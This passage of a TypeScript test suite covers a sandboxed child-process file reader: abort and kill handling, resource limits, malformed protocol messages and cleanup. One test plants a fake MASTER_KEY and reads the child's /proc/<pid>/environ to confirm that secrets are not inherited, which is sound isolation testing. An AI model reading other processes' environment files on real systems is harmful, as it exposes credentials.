      expect(problems(sheet)).toEqual([[2, 'TOO_MANY_CELLS', undefined]]);
      expect(sheet.rows[0]!.cells.filter(Boolean)).toEqual(wholeRows ? ['Ann', 'far'] : ['Ann']);
    }
  });

  test('a character that was lost before is a problem in every kind of file', async () => {
    const files = [
      'Name\nJ\uFFFDrg\n',
      'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:J\uFFFDrg\r\nEND:VCARD\r\n',
      await workbook({ sheets: { S: row(1, 'Name') + row(2, 'J\uFFFDrg') } }),
    ];
    for (const content of files) expect((await readBytes(content)).rows.map(({ problem }) => problem?.code)).toEqual(['BROKEN_CHARACTER']);
  });

  test('is killed by whoever aborts, while it reads', async () => {
    await writeFile(path, rows(200_000));
    const stop = new AbortController();
    const reading = await readInChild({ path, mode: 'rows' }, readerLimits, stop.signal);
    const reason = new Error('Nobody wants it any more.');
    let count = 0;
    const all = async () => {
      for await (const batch of reading.batches) if ((count += batch.rows) === 1_000) stop.abort(reason);
    };
    await expect(all()).rejects.toBe(reason);
    expect(count).toBeLessThan(200_000);
    await expect(readInChild({ path, mode: 'rows' }, readerLimits, stop.signal)).rejects.toBe(reason);
  });

  test('is refused as broken when it is killed from outside', async () => {
    await writeFile(path, rows(200_000));
    const reading = await readInChild({ path, mode: 'rows' });
    const all = async () => {
      for await (const _ of reading.batches) process.kill(reading.pid, 'SIGKILL');
    };
    expect(await refused(all)).toMatchObject({ code: 'READER_FAILED' });
  });

  test('is gone when it is not wanted to its end', async () => {
    await writeFile(path, rows(200_000));
    const reading = await readInChild({ path, mode: 'rows' });
    for await (const _ of reading.batches) break;
    expect(isRunning(reading.pid)).toBe(false);
    const other = await readInChild({ path, mode: 'rows' });
    await other[Symbol.asyncDispose]();
    expect(isRunning(other.pid)).toBe(false);
  });

  test('is killed when it takes more memory or time than it may', async () => {
    await writeFile(path, rows(200_000));
    expect(await refused(() => read(path, {}, { ...readerLimits, memoryBytes: 30 * 1_048_576 }))).toMatchObject({ code: 'READER_TOO_LARGE' });
    expect(await refused(() => read(path, {}, { ...readerLimits, idleMs: 1 }))).toMatchObject({ code: 'READER_TOO_SLOW' });
    expect(await refused(() => read(path, {}, { ...readerLimits, totalMs: 1 }))).toMatchObject({ code: 'READER_TOO_SLOW' });
  });

  test('has none of the secrets of its parent, and fails with a word when it can’t go on', async () => {
    expect(await refused(() => read(join(folder, 'nowhere')))).toMatchObject({ code: 'READER_FAILED' });
    expect(await refused(() => readInChild({ path, mode: 'no such mode' }))).toMatchObject({ code: 'READER_FAILED' });
    vi.stubEnv('MASTER_KEY', 'a secret');
    const reading = await readInChild({ path, mode: 'rows' });
    const environment = await readFile(`/proc/${reading.pid}/environ`, 'utf8');
    await reading[Symbol.asyncDispose]();
    vi.unstubAllEnvs();
    expect(environment).not.toMatch(/MASTER_KEY|PATH|HOME/);
  });

  describe('says what nobody should', () => {
    const facts = (header: string[] = []) => `${JSON.stringify({ kind: 'FACTS', facts: { header }, totalBytes: 1, length: 0 })}\n`;
    const batch = (length: string, more = '') => `{"kind":"ROWS","rows":0,"bytesRead":0${length}${more}}\n`;

    /** Reads with a process that says this, whatever it is asked. @returns how many batches came; not more than three are taken */
    async function hear(said: string): Promise<number> {
      const [program, words] = [join(folder, 'said.sh'), join(folder, 'said.txt')];
      await writeFile(words, said);
      await writeFile(program, `#!/bin/sh\nexec cat '${words}'\n`);
      await chmod(program, 0o700);
      const { execPath } = process;
      process.execPath = program;
      const begun = readInChild({ path, mode: 'rows' });
      process.execPath = execPath;
      await using reading = await begun;
      let batches = 0;
      for await (const _ of reading.batches) if (++batches === 3) break;
      return batches;
    }

    test.for([
      ['no length', ''],
      ['a negative length', ',"length":-1'],
      ['half a byte', ',"length":0.5'],
      ['a length in words', ',"length":"0"'],
      ['a length without end', ',"length":1e999'],
    ] as const)('%s', async ([, length]) => {
      expect(await refused(() => hear(facts() + batch(length)))).toMatchObject({ code: 'READER_FAILED' });
    });

    test.for(['null', '7', '""', '[]', 'words'])('%s', async (said) => {
      expect(await refused(() => hear(`${said}\n`))).toMatchObject({ code: 'READER_FAILED' });
      expect(await refused(() => hear(`${facts()}${said}\n`))).toMatchObject({ code: 'READER_FAILED' });
    });

    test('more before a body than can be; the longest names of columns can', async () => {
      const names = Array.from({ length: sheetLimits.columns }, () => '€'.repeat(sheetLimits.cellLength));
      expect(await hear(facts(names) + batch(',"length":0').repeat(3))).toBe(3);
      const long = batch(',"length":0', `,"more":"${'x'.repeat(17_000_000)}"`);
      expect(await refused(() => hear(facts() + long.repeat(3)))).toMatchObject({ code: 'READER_FAILED' });
      expect(await refused(() => hear(facts() + long.slice(0, -1)))).toMatchObject({ code: 'READER_FAILED' });
    });
  });

  test('ends with its parent, however that ends', async () => {
    await writeFile(path, rows(500_000));
    const program = `
      const { readInChild } = await import(${JSON.stringify(new URL('../src/imports/readers/reader.ts', import.meta.url).href)});
      const reading = await readInChild({ path: ${JSON.stringify(path)}, mode: 'rows' });
      console.log(reading.pid);
      setInterval(() => {}, 1000);`;
    const parent = spawn(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', program], { stdio: ['ignore', 'pipe', 'inherit'] });
    const [line] = (await once(createInterface(parent.stdout), 'line')) as [string];
    expect(isRunning(Number(line))).toBe(true);
    parent.kill('SIGKILL');
    await vi.waitFor(async () => expect(await isAtWork(Number(line))).toBe(false), 10_000);
  });

  function isRunning(pid: number): boolean {
    try {
      return process.kill(pid, 0);
    } catch {
      return false;
    }
  }

  /** Not one that has ended and that nobody has asked about: where there is no init, nobody will. */
  async function isAtWork(pid: number): Promise<boolean> {
    const status = await readFile(`/proc/${pid}/stat`, 'utf8').catch(() => '');
    return status !== '' && !/\) Z /.test(status);
  }
});
